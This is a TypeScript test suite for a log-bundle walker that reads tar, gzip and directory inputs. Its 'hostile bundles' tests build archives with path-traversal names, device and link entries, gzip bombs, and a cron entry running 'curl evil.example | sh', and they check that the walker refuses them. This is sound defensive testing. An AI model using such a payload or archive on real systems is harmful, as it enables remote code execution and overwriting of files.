import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import * as tar from 'tar';
import { isReportedError } from './gzip.js';
import type { InputEntry, InputProblem, WalkOptions } from './types.js';
import { walkInputs } from './walk.js';

// ---------------------------------------------------------------- helpers

let tmp: string;
before(() => {
  tmp = mkdtempSync(join(tmpdir(), 'faultline-walk-'));
});
after(() => rmSync(tmp, { recursive: true, force: true }));

function write(rel: string, content: string | Buffer): string {
  const abs = join(tmp, rel);
  mkdirSync(join(abs, '..'), { recursive: true });
  writeFileSync(abs, content);
  return abs;
}

interface Seen {
  entry: InputEntry;
  text?: string;
  error?: string;
}

/** Walks and reads every file entry to the end (keeping a read error's message). */
async function walkAll(paths: string[], opts: WalkOptions = {}): Promise<{ seen: Seen[]; problems: InputProblem[] }> {
  const problems: InputProblem[] = [];
  const seen: Seen[] = [];
  for await (const entry of walkInputs(paths, { ...opts, onProblem: (p) => problems.push(p) })) {
    const s: Seen = { entry };
    if (entry.kind === 'file') {
      const chunks: Buffer[] = [];
      try {
        for await (const c of entry.open()) chunks.push(c as Buffer);
      } catch (err) {
        s.error = (err as Error).message;
      }
      s.text = Buffer.concat(chunks).toString('latin1');
    }
    seen.push(s);
  }
  return { seen, problems };
}

function byPath(seen: Seen[], path: string): Seen {
  const s = seen.find((x) => x.entry.path === path);
  assert.ok(s, `no entry ${path}; have ${seen.map((x) => x.entry.path).join(', ')}`);
  return s;
}

type TarType = '0' | '1' | '2' | '3' | '4' | '5' | '6';

/** One ustar header, written by hand: the tar creator refuses the hostile names these tests need. */
function tarHeader(name: string, type: TarType, size: number, linkname = ''): Buffer {
  const h = Buffer.alloc(512);
  h.write(name, 0, 100, 'utf8');
  h.write('0000644\0', 100, 'latin1');
  h.write('0001750\0', 108, 'latin1');
  h.write('0001750\0', 116, 'latin1');
  h.write(`${size.toString(8).padStart(11, '0')}\0`, 124, 'latin1');
  h.write(
    `${Math.floor(Date.UTC(2024, 6, 11, 3, 12) / 1000)
      .toString(8)
      .padStart(11, '0')}\0`,
    136,
    'latin1',
  );
  h.write('        ', 148, 'latin1');
  h.write(type, 156, 'latin1');
  h.write(linkname, 157, 100, 'utf8');
  h.write('ustar\x0000', 257, 'latin1');
  h.write('root', 265, 'latin1');
  h.write('root', 297, 'latin1');
  let sum = 0;
  for (const b of h) sum += b;
  h.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
  return h;
}

interface Member {
  name: string;
  type?: TarType;
  body?: string | Buffer;
  link?: string;
}

function tarBytes(members: Member[], end = true): Buffer {
  const parts: Buffer[] = [];
  for (const m of members) {
    const body = typeof m.body === 'string' ? Buffer.from(m.body) : (m.body ?? Buffer.alloc(0));
    parts.push(tarHeader(m.name, m.type ?? '0', body.length, m.link ?? ''));
    parts.push(body);
    const pad = (512 - (body.length % 512)) % 512;
    parts.push(Buffer.alloc(pad));
  }
  if (end) parts.push(Buffer.alloc(1024));
  return Buffer.concat(parts);
}

function listTree(dir: string): string[] {
  return readdirSync(dir, { recursive: true, withFileTypes: false }).map(String).sort();
}

const NGINX_ERROR = [
  '2024/07/11 03:12:07 [error] 1184#1184: *88231 upstream timed out (110: Connection timed out) while reading response header from upstream, client: 10.0.3.17, server: shop.example.com, request: "GET /api/cart HTTP/1.1", upstream: "http://127.0.0.1:3000/api/cart", host: "shop.example.com"',
  '2024/07/11 03:12:09 [error] 1184#1184: *88240 connect() failed (111: Connection refused) while connecting to upstream, client: 10.0.3.22, server: shop.example.com, request: "POST /api/checkout HTTP/1.1", upstream: "http://127.0.0.1:3000/api/checkout", host: "shop.example.com"',
].join('\n');
const MYSQL_ERROR =
  "2024-07-11T03:11:58.102334Z 0 [Warning] [MY-010055] [Server] IP address '10.0.3.9' could not be resolved: Name or service not known\n2024-07-11T03:12:01.874410Z 31 [Note] [MY-010914] [Server] Aborted connection 31 to db: 'shop' user: 'app' host: '10.0.3.9' (Got timeout reading communication packets).\n";

// ---------------------------------------------------------------- directories and bundles

describe('walkInputs: layout of hosts', () => {
  it('finds one host per top-level folder of a multi-host bundle', async () => {
    const src = join(tmp, 'multi-src');
    write('multi-src/app1/etc/nginx/nginx.conf', 'worker_processes auto;\nevents { worker_connections 768; }\n');
    write('multi-src/app1/var/log/nginx/error.log', `${NGINX_ERROR}\n`);
    write('multi-src/db1/etc/mysql/my.cnf', '[mysqld]\nmax_connections = 151\n');
    write('multi-src/db1/var/log/mysql/error.log', MYSQL_ERROR);
    write('multi-src/NOTES.txt', 'collected by support, ticket 4411\n');
    const bundle = join(tmp, 'incident-4411.tar.gz');
    await tar.c({ gzip: true, file: bundle, cwd: src }, ['NOTES.txt', 'app1', 'db1']);

    const { seen, problems } = await walkAll([bundle]);
    assert.deepEqual(problems, []);
    const conf = byPath(seen, 'app1/etc/nginx/nginx.conf').entry;
    assert.equal(conf.host, 'app1');
    assert.equal(conf.hostPath, '/etc/nginx/nginx.conf');
    assert.equal(conf.rootPath, 'app1');
    assert.equal(conf.kind, 'file');
    assert.equal(conf.size, Buffer.byteLength('worker_processes auto;\nevents { worker_connections 768; }\n'));
    const mysql = byPath(seen, 'db1/var/log/mysql/error.log');
    assert.equal(mysql.entry.host, 'db1');
    assert.equal(mysql.entry.hostPath, '/var/log/mysql/error.log');
    assert.equal(mysql.text, MYSQL_ERROR);
    const notes = byPath(seen, 'NOTES.txt').entry;
    assert.equal(notes.host, undefined);
    assert.equal(notes.hostPath, 'NOTES.txt');
    assert.equal(notes.rootPath, '');
  });

  it('strips a wrapper folder for hostPath but keeps it in the display path', async () => {
    write('wrap-src/bundle-2024-07-11/var/log/nginx/error.log', `${NGINX_ERROR}\n`);
    write('wrap-src/bundle-2024-07-11/etc/nginx/nginx.conf', 'user www-data;\n');
    const bundle = join(tmp, 'bundle-2024-07-11.tgz');
    await tar.c({ gzip: true, file: bundle, cwd: join(tmp, 'wrap-src') }, ['bundle-2024-07-11']);

    const { seen } = await walkAll([bundle]);
    const log = byPath(seen, 'bundle-2024-07-11/var/log/nginx/error.log');
    assert.equal(log.entry.host, undefined);
    assert.equal(log.entry.hostPath, '/var/log/nginx/error.log');
    assert.equal(log.entry.rootPath, 'bundle-2024-07-11');
    assert.equal(log.text, `${NGINX_ERROR}\n`);
  });

  it('treats a walked directory that mirrors / as the host root, sorted and deterministic', async () => {
    write(
      'hostroot/var/log/syslog',
      'Jul 11 03:12:01 app1 kernel: [812345.001] Out of memory: Killed process 2211 (node)\n',
    );
    write('hostroot/etc/haproxy/haproxy.cfg', 'defaults\n  timeout client 50000\n');
    write('hostroot/etc/timezone', 'Europe/Berlin\n');
    const { seen } = await walkAll([join(tmp, 'hostroot')]);
    assert.deepEqual(
      seen.map((s) => [s.entry.path, s.entry.hostPath, s.entry.rootPath]),
      [
        ['etc/haproxy/haproxy.cfg', '/etc/haproxy/haproxy.cfg', ''],
        ['etc/timezone', '/etc/timezone', ''],
        ['var/log/syslog', '/var/log/syslog', ''],
      ],
    );
  });

  it('prefixes each root with its base name when several are named; a file named directly keeps its path', async () => {
    const conf = write('loose/nginx.conf', 'include /etc/nginx/conf.d/*.conf;\n');
    write('loose/conf.d/shop.conf', 'upstream app { server 127.0.0.1:3000; }\n');
    const { seen } = await walkAll([conf, join(tmp, 'loose/conf.d'), join(tmp, 'hostroot')]);
    const direct = byPath(seen, conf).entry;
    assert.equal(direct.hostPath, conf);
    assert.equal(direct.rootPath, '');
    const shop = byPath(seen, 'conf.d/shop.conf').entry;
    assert.equal(shop.hostPath, 'conf.d/shop.conf');
    assert.equal(shop.host, undefined);
    // A named directory that mirrors / becomes a host named after it.
    const syslog = byPath(seen, 'hostroot/var/log/syslog').entry;
    assert.equal(syslog.host, 'hostroot');
    assert.equal(syslog.hostPath, '/var/log/syslog');
    assert.equal(syslog.rootPath, 'hostroot');
  });
});

describe('walkInputs: compressed and special files', () => {
  it('decompresses rotated .gz files on read and keeps their name', async () => {
    write('rot/var/log/nginx/error.log', `${NGINX_ERROR}\n`);
    write('rot/var/log/nginx/error.log.2.gz', gzipSync(`${NGINX_ERROR.replace(/03:12/g, '02:40')}\n`));
    const { seen, problems } = await walkAll([join(tmp, 'rot')]);
    assert.deepEqual(problems, []);
    const rotated = byPath(seen, 'var/log/nginx/error.log.2.gz');
    assert.equal(rotated.entry.compressed, 'gzip');
    assert.equal(rotated.entry.size, undefined);
    assert.equal(rotated.entry.hostPath, '/var/log/nginx/error.log.2.gz');
    assert.match(rotated.text ?? '', /^2024\/07\/11 02:40:07 \[error\] 1184#1184: \*88231 upstream timed out/);
  });

  it('lists symlinks with their target and never follows them; a fifo is listed, never opened', async () => {
    write('links/etc/nginx/nginx.conf', 'user nginx;\n');
    symlinkSync('/etc/shadow', join(tmp, 'links/etc/shadow-link'));
    symlinkSync('/usr/share/zoneinfo/Europe/Berlin', join(tmp, 'links/etc/localtime'));
    // A link to a directory outside: walking into it would leave the input.
    symlinkSync('/etc', join(tmp, 'links/etc/host-etc'));
    let fifo = false;
    try {
      execFileSync('mkfifo', [join(tmp, 'links/var-run.fifo')]);
      fifo = true;
    } catch {
      // No mkfifo on this system: the fifo case is skipped.
    }
    const { seen, problems } = await walkAll([join(tmp, 'links')]);
    assert.deepEqual(problems, []);
    const shadow = byPath(seen, 'etc/shadow-link').entry;
    assert.equal(shadow.kind, 'symlink');
    assert.equal(shadow.linkTarget, '/etc/shadow');
    assert.equal(byPath(seen, 'etc/localtime').entry.linkTarget, '/usr/share/zoneinfo/Europe/Berlin');
    assert.equal(byPath(seen, 'etc/host-etc').entry.kind, 'symlink');
    assert.ok(!seen.some((s) => s.entry.path.startsWith('etc/host-etc/')), 'walked into a linked directory');
    if (fifo) assert.equal(byPath(seen, 'var-run.fifo').entry.kind, 'other');
  });

  it('reports an unreadable file once, as a read error the line reader ends quietly on', {
    skip: process.getuid?.() === 0 ? 'root reads any file' : false,
  }, async () => {
    const locked = write('locked/error.log', 'secret\n');
    chmodSync(locked, 0o000);
    const problems: InputProblem[] = [];
    for await (const entry of walkInputs([locked], { onProblem: (p) => problems.push(p) })) {
      await linesOf(entry.open());
    }
    assert.equal(problems.length, 1);
    assert.match(problems[0].message, /error\.log: read failed after 0 bytes \(EACCES\)/);
  });

  it('reports a missing path and goes on with the next', async () => {
    const { seen, problems } = await walkAll([join(tmp, 'nope.log'), join(tmp, 'hostroot/etc/timezone')]);
    assert.equal(problems.length, 1);
    assert.match(problems[0].message, /nope\.log: cannot read \(ENOENT\)/);
    assert.equal(seen.length, 1);
    assert.equal(seen[0].text, 'Europe/Berlin\n');
  });
});

describe('walkInputs: hostile bundles', () => {
  it('refuses escaping, absolute and device entries, lists links, writes nothing, and goes on', async () => {
    const bundle = write(
      'hostile.tar',
      tarBytes([
        { name: '../../etc/passwd', body: 'root:x:0:0:root:/root:/bin/bash\n' },
        { name: '/etc/cron.d/evil', body: '* * * * * root curl evil.example | sh\n' },
        { name: 'var/log/app/../../../../tmp/x', body: 'x\n' },
        { name: 'var/log/nginx/error.log', body: `${NGINX_ERROR}\n` },
        { name: 'etc/shadow-link', type: '2', link: '/etc/shadow' },
        { name: 'etc/hard', type: '1', link: '../../../etc/passwd' },
        { name: 'dev/null', type: '3' },
        { name: 'dev/sda', type: '4' },
        { name: 'var/log/after.log', body: 'still read\n' },
      ]),
    );
    const before = listTree(tmp);
    const cwdBefore = readdirSync(process.cwd()).sort();
    // Named alone, so that entry paths are relative to the bundle; the second input is walked next.
    const { seen, problems } = await walkAll([bundle]);
    const next = await walkAll([join(tmp, 'hostroot/etc/timezone')]);
    seen.push(...next.seen);

    const messages = problems.map((p) => p.message);
    assert.ok(messages.some((m) => m.includes('entry ../../etc/passwd refused: path leaves the bundle')));
    assert.ok(messages.some((m) => m.includes('entry /etc/cron.d/evil refused: absolute path')));
    assert.ok(messages.some((m) => m.includes('entry var/log/app/../../../../tmp/x refused')));
    assert.ok(messages.some((m) => m.includes('entry dev/null refused: device entry (never read)')));
    assert.ok(messages.some((m) => m.includes('entry dev/sda refused: device entry')));
    assert.equal(problems.length, 5);
    for (const m of messages) assert.ok(!m.includes('\n'), `multi-line problem: ${m}`);

    assert.equal(byPath(seen, 'var/log/nginx/error.log').entry.hostPath, '/var/log/nginx/error.log');
    const link = byPath(seen, 'etc/shadow-link').entry;
    assert.deepEqual([link.kind, link.linkTarget], ['symlink', '/etc/shadow']);
    const hard = byPath(seen, 'etc/hard').entry;
    assert.deepEqual([hard.kind, hard.linkTarget], ['hardlink', '../../../etc/passwd']);
    assert.equal(byPath(seen, 'var/log/after.log').text, 'still read\n');
    assert.ok(
      seen.some((s) => s.text === 'Europe/Berlin\n'),
      'the next input was not walked',
    );
    assert.ok(!seen.some((s) => s.entry.path.includes('passwd') || s.entry.path.includes('cron')));

    assert.deepEqual(listTree(tmp), before, 'the walk wrote into the temp dir');
    assert.deepEqual(readdirSync(process.cwd()).sort(), cwdBefore, 'the walk wrote into the working dir');
  });

  it('caps a gzip bomb in a rotated log and in a bundle, reporting it once', async () => {
    const zeros = gzipSync(Buffer.alloc(50 * 1024 * 1024));
    const rotated = write('bomb/var/log/app.log.1.gz', zeros);
    const cap = 1024 * 1024;
    const { seen, problems } = await walkAll([rotated], { maxExpandedBytes: cap });
    assert.equal(seen[0].text?.length, cap);
    assert.match(seen[0].error ?? '', /expanded size cap of 1 MiB reached/);
    assert.deepEqual(
      problems.map((p) => p.message),
      [
        `expanded size cap of 1 MiB reached; the rest of ${rotated} was skipped, with every compressed input after it (--max-expanded)`,
      ],
    );

    // The same zeros as a member of a .tar.gz: the bundle stops, the next input is still walked.
    const bundle = write(
      'bomb.tar.gz',
      gzipSync(
        tarBytes([
          { name: 'var/log/first.log', body: 'before the bomb\n' },
          { name: 'var/log/zeros.log', body: Buffer.alloc(50 * 1024 * 1024) },
          { name: 'var/log/never.log', body: 'after the bomb\n' },
        ]),
      ),
    );
    const second = await walkAll([bundle, join(tmp, 'hostroot/etc/timezone')], { maxExpandedBytes: 2 * cap });
    // Two inputs named: the bundle's entries carry its base name, and it mirrors a host root.
    assert.equal(byPath(second.seen, 'bomb/var/log/first.log').entry.host, 'bomb');
    assert.equal(byPath(second.seen, 'bomb/var/log/first.log').text, 'before the bomb\n');
    const zerosEntry = byPath(second.seen, 'bomb/var/log/zeros.log');
    assert.ok((zerosEntry.text?.length ?? 0) < 2 * cap);
    assert.match(zerosEntry.error ?? '', /expanded size cap of 2 MiB reached/);
    assert.ok(!second.seen.some((s) => s.entry.path.endsWith('never.log')));
    assert.deepEqual(
      second.problems.map((p) => p.message),
      [
        `expanded size cap of 2 MiB reached; the rest of ${bundle} was skipped, with every compressed input after it (--max-expanded)`,
      ],
    );
    assert.ok(second.seen.some((s) => s.text === 'Europe/Berlin\n'));
  });

  it('caps one gzip member of a bundle with maxEntryBytes and reads the next member', async () => {
    const bundle = write(
      'member-bomb.tar',
      tarBytes([
        { name: 'var/log/nginx/access.log.3.gz', body: gzipSync(Buffer.alloc(8 * 1024 * 1024, 'A')) },
        { name: 'var/log/nginx/error.log', body: `${NGINX_ERROR}\n` },
      ]),
    );
    const { seen, problems } = await walkAll([bundle], { maxEntryBytes: 256 * 1024 });
    const member = byPath(seen, 'var/log/nginx/access.log.3.gz');
    assert.equal(member.entry.compressed, 'gzip');
    assert.equal(member.text?.length, 256 * 1024);
    assert.deepEqual(
      problems.map((p) => p.message),
      ['expanded size cap of 256 KiB reached; the rest of var/log/nginx/access.log.3.gz was skipped'],
    );
    assert.equal(byPath(seen, 'var/log/nginx/error.log').text, `${NGINX_ERROR}\n`);
  });

  it('keeps the lines before the cut of a truncated .gz and reports it on one line', async () => {
    const lines = Array.from(
      { length: 20000 },
      (_, i) =>
        `10.0.3.${i % 250} - - [11/Jul/2024:03:${String(Math.floor(i / 400) % 60).padStart(2, '0')}:00 +0000] "GET /api/cart?id=${i} HTTP/1.1" 504 167 "-" "Mozilla/5.0"`,
    );
    const gz = gzipSync(`${lines.join('\n')}\n`);
    const cut = write('trunc/access.log.1.gz', gz.subarray(0, Math.floor(gz.length / 2)));
    const problems: InputProblem[] = [];
    const got: string[] = [];
    for await (const entry of walkInputs([cut], { onProblem: (p) => problems.push(p) })) {
      got.push(...(await linesOf(entry.open())));
    }
    assert.equal(problems.length, 1);
    assert.match(problems[0].message, /^.*access\.log\.1\.gz: gzip stream truncated after \d+ bytes$/);
    assert.ok(got.length > 1000 && got.length < 20000, `read ${got.length} lines`);
    // Every complete line before the cut is intact.
    for (let i = 0; i < got.length - 1; i++) assert.equal(got[i], lines[i]);
  });

  it('reports a corrupt tar and stops that bundle only', async () => {
    const good = tarBytes(
      [{ name: 'var/log/syslog', body: 'Jul 11 03:12:01 app1 systemd[1]: nginx.service: Main process exited\n' }],
      false,
    );
    const garbage = Buffer.alloc(512, 0x41);
    const rest = tarBytes([{ name: 'var/log/later.log', body: 'never\n' }]);
    const bundle = write('corrupt.tar', Buffer.concat([good, garbage, rest]));
    const { seen, problems } = await walkAll([bundle, join(tmp, 'hostroot/etc/timezone')]);
    assert.equal(
      byPath(seen, 'corrupt/var/log/syslog').text,
      'Jul 11 03:12:01 app1 systemd[1]: nginx.service: Main process exited\n',
    );
    assert.ok(!seen.some((s) => s.entry.path.endsWith('later.log')));
    assert.equal(problems.length, 1);
    assert.match(problems[0].message, /corrupt\.tar: corrupt tar archive \(.*checksum.*\); the rest was skipped$/);
    assert.ok(seen.some((s) => s.text === 'Europe/Berlin\n'));
  });

  it('reports a .tar.gz cut short; members read before the cut stay usable', async () => {
    const big = Array.from(
      { length: 60000 },
      (_, i) => `Jul 11 03:${String(i % 60).padStart(2, '0')}:00 db1 mysqld[812]: line ${i} ${Math.random()}`,
    ).join('\n');
    const whole = gzipSync(
      tarBytes([
        { name: 'var/log/first.log', body: 'complete\n' },
        { name: 'var/log/big.log', body: big },
      ]),
    );
    const bundle = write('cut.tgz', whole.subarray(0, Math.floor(whole.length * 0.6)));
    const { seen, problems } = await walkAll([bundle]);
    assert.equal(byPath(seen, 'var/log/first.log').text, 'complete\n');
    const cutEntry = byPath(seen, 'var/log/big.log');
    assert.match(cutEntry.error ?? '', /gzip stream truncated after \d+ bytes/);
    assert.ok(big.startsWith(cutEntry.text ?? 'x'));
    assert.equal(problems.length, 1);
    assert.match(problems[0].message, /cut\.tgz: gzip stream truncated after \d+ bytes$/);
  });
});

describe('walkInputs: streaming a bundle', () => {
  it('drains an unread or half-read member when the next one is asked for; a member reads once', async () => {
    const mb = (c: string) => Buffer.alloc(3 * 1024 * 1024, c);
    const bundle = write(
      'stream.tar.gz',
      gzipSync(
        tarBytes([
          { name: 'a.log', body: mb('a') },
          { name: 'b.log', body: mb('b') },
          { name: 'c.log', body: mb('c') },
          { name: 'e.log.gz', body: gzipSync(Buffer.alloc(4 * 1024 * 1024, 'e')) },
          { name: 'd.log', body: 'last\n' },
        ]),
      ),
    );
    const got: Record<string, number> = {};
    const problems: InputProblem[] = [];
    for await (const e of walkInputs([bundle], { onProblem: (p) => problems.push(p) })) {
      if (e.path === 'a.log') {
        let n = 0;
        for await (const c of e.open()) n += (c as Buffer).length;
        got[e.path] = n;
        await assert.rejects(async () => {
          for await (const _ of e.open());
        }, /can be read once/);
      } else if (e.path === 'c.log') {
        const s = e.open();
        const first = await new Promise<Buffer>((resolve) => s.once('data', resolve));
        got[e.path] = first.length;
        assert.equal(first[0], 0x63);
      } else if (e.path === 'e.log.gz') {
        // Half-read gzip member, abandoned: no problem is reported and the walk goes on.
        const s = e.open();
        await new Promise<Buffer>((resolve) => s.once('data', resolve));
        got[e.path] = 1;
      } else if (e.path === 'd.log') {
        const chunks: Buffer[] = [];
        for await (const c of e.open()) chunks.push(c as Buffer);
        got[e.path] = Buffer.concat(chunks).length;
      } else {
        got[e.path] = -1; // b.log: never opened
      }
    }
    assert.equal(got['a.log'], 3 * 1024 * 1024);
    assert.equal(got['e.log.gz'], 1);
    assert.equal(got['b.log'], -1);
    assert.ok(got['c.log'] > 0);
    assert.equal(got['d.log'], 5);
    assert.deepEqual(problems, []);
  });

  it('stops cleanly when the consumer leaves the loop early', async () => {
    const bundle = write(
      'early.tar',
      tarBytes([
        { name: 'x.log', body: Buffer.alloc(2 * 1024 * 1024, 'x') },
        { name: 'y.log', body: 'y\n' },
      ]),
    );
    const paths: string[] = [];
    for await (const e of walkInputs([bundle])) {
      paths.push(e.path);
      break;
    }
    assert.deepEqual(paths, ['x.log']);
  });
});

/** The lines of an entry's stream, ending quietly on a problem the walk already reported (as the read path does). */
async function linesOf(stream: NodeJS.ReadableStream): Promise<string[]> {
  const chunks: Buffer[] = [];
  try {
    for await (const c of stream) chunks.push(c as Buffer);
  } catch (err) {
    if (!isReportedError(err)) throw err;
  }
  return Buffer.concat(chunks)
    .toString('utf8')
    .split('\n')
    .filter((l) => l !== '');
}
